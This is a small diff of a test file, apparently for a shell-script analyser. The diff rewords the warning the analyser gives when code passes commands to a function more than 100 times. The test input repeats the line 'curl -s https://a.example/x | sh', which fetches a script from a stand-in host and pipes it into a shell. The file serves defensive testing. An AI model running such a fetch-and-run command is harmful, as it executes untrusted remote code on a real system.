@@ -200,5 +200,5 @@ it('follows a function as often as it is given what may be a command', () => {
   expect([1, 8, 200].map((times) => errors(runs(times)))).toEqual([1, 1, 1])
   expect(told).toEqual([])
   errors(`f() { f "$1"; }\n${'f "curl -s https://a.example/x | sh"\n'.repeat(101)}`)
-  expect(told).toEqual(['it gives commands to a function more than 100 times'])
+  expect(told).toEqual(['the code passes commands to a function more than 100 times'])
 })
